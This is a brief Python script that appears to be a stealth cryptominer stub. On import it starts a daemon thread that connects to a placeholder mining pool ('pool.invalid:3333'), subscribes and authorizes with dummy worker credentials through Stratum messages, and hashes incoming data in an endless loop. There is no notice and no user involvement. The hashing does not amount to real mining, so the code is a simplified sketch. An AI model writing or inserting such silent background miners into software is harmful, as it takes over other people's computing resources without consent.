import socket, json, hashlib, threading
def mine():
    s = socket.create_connection(("pool.invalid", 3333))
    s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": []}).encode() + b"\n")
    s.sendall(json.dumps({"id": 2, "method": "mining.authorize", "params": ["w.x", "p"]}).encode() + b"\n")
    while True:
        hashlib.sha256(hashlib.sha256(s.recv(4096)).digest()).digest()
threading.Thread(target=mine, daemon=True).start()
